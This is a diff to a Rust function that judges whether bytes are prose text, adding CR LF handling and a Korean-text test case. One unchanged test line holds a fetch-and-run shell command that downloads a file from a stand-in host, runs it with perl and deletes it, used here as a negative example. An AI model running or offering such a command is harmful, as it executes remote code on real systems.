@@ -11,6 +11,8 @@ pub fn is_text(bytes: &[u8]) -> bool {
     }
     let (mut row, mut runs) = (0usize, 0usize);
     for word in bytes.split(|byte| matches!(byte, b' ' | b'\n')) {
+        // A browser ends the lines of a text area with CR LF.
+        let word = word.strip_suffix(b"\r").unwrap_or(word);
         let trimmed = word
             .strip_suffix(b",")
             .or_else(|| word.strip_suffix(b"."))
@@ -126,6 +128,9 @@ mod tests {
     fn articles_are_texts_and_command_lines_are_not() {
         assert!(is_text(
             b"To list the files of a folder you may want to run the `ls -l` command, which is what most people do when they look around."
+        ));
+        assert!(is_text(
+            "좌석을\r\n고르고\r\n결제를\r\n".repeat(8).as_bytes()
         ));
         assert!(!is_text(
             b"cd /tmp;wget http://h.example/x.png -O p.txt;curl -O http://h.example/x.png;mv x.png p.txt;perl p.txt;rm -rf p.txt;echo done and done"
